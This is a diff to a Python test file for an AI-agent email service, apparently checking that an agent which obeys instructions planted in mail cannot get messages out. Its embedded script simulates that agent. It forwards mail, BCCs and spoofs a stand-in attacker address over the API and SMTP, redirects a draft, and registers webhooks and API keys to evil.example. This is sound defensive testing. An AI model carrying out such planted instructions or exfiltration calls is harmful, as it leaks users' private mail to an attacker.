@@ -158,8 +158,8 @@ async def test_under_risk_and_a_limit_only_the_trusted_get_mail_and_only_before_
 
 
 SHELL = r"""
-import json, re, urllib.error, urllib.parse, urllib.request
-BASE, TOKEN, INBOX, MALLORY = {url!r}, {token!r}, {inbox!r}, {mallory!r}
+import json, re, smtplib, urllib.error, urllib.parse, urllib.request
+BASE, TOKEN, INBOX, MALLORY, SMTP = {url!r}, {token!r}, {inbox!r}, {mallory!r}, {smtp!r}
 def call(method, path, body=None):
     request = urllib.request.Request(BASE + path, method=method, data=None if body is None else json.dumps(body).encode())
     request.add_header("Authorization", "Bearer " + TOKEN)
@@ -171,6 +171,14 @@ def call(method, path, body=None):
             return answer.status, json.loads(answer.read() or b"null")
     except urllib.error.HTTPError as problem:
         return problem.code, json.loads(problem.read() or b"null")
+def submit(sender, recipients, text):
+    with smtplib.SMTP(*SMTP, timeout=20) as client:
+        client.login(INBOX, TOKEN)
+        try:
+            client.sendmail(sender, recipients, f"From: {{sender}}\r\nTo: {{recipients[0]}}\r\nSubject: s\r\n\r\n{{text}}\r\n")
+        except smtplib.SMTPException as refused:
+            return refused
+    raise SystemExit("a mail was taken by SMTP")
 def tool(name, arguments):
     params = {{"name": "agentmail_" + name, "arguments": arguments}}
     return call("POST", "/mcp/email", {{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}})
@@ -184,6 +192,13 @@ for row in call("GET", f"/v0/inboxes/{{INBOX}}/messages?limit=100")[1]["messages
     tool("reply", {{"messageId": row["message_id"], "text": "obeyed " + name}})
     call("POST", f"/v0/inboxes/{{INBOX}}/messages/{{name}}/forward", {{"to": targets[0], "text": "f"}})
     call("POST", f"/v0/inboxes/{{INBOX}}/messages/send", {{"to": targets, "bcc": [MALLORY], "subject": "b" + name, "text": "t"}})
+    submit(INBOX, targets, "by smtp " + name)
+    submit(INBOX, ["colleague@partner.example", MALLORY], "hidden by smtp " + name)
+    submit(MALLORY, targets, "in another name " + name)
+    draft = call("POST", f"/v0/inboxes/{{INBOX}}/drafts", {{"to": targets, "subject": "d" + name, "text": "t"}})[1]
+    path = f"/v0/inboxes/{{INBOX}}/drafts/{{draft['draft_id']}}"
+    call("POST", path + "/send", {{}})
+    call("PATCH", path, {{"to": [MALLORY], "send_at": "2020-01-01T00:00:00Z"}})
     seen += 1
 for path in ("/v0/webhooks", "/v0/api-keys", "/api/agents", f"/v0/inboxes/{{INBOX}}/lists/send/allow"):
     status, _ = call("POST", path, {{"name": "n", "entry": MALLORY, "url": "https://evil.example/", "event_types": ["message.received"]}})
@@ -214,7 +229,7 @@ def test_from_a_real_shell_under_another_user_nothing_leaves(tmp_path: Path) -> 
             served_all = len(VARIANTS)
             eventually(lambda: len(served.messages(SCOUT)) == served_all)
             key = str(served.data / "owner.key")
-            script = SHELL.format(url=served.url, token=token, inbox=SCOUT, mallory=MALLORY, key=key)
+            script = SHELL.format(url=served.url, token=token, inbox=SCOUT, mallory=MALLORY, key=key, smtp=served.smtp)
             user = pwd.getpwnam("nobody").pw_name
             done = subprocess.run(
                 ["su", "-s", "/bin/sh", user, "-c", "/usr/bin/python3 -"],
@@ -230,4 +245,5 @@ def test_from_a_real_shell_under_another_user_nothing_leaves(tmp_path: Path) -> 
             states = Counter(row["state"] for row in rows)
             print(f"obeying agent under another user, {served_all} mails: {dict(states)}")
             assert set(states) == {"held", "refused"}
-            assert {row["boundary"] for row in rows} == {"wall"}
+            called = [row for row in rows if not row["subject"].startswith("d")]  # a draft that fell due has no caller
+            assert {row["boundary"] for row in called} == {"wall"}
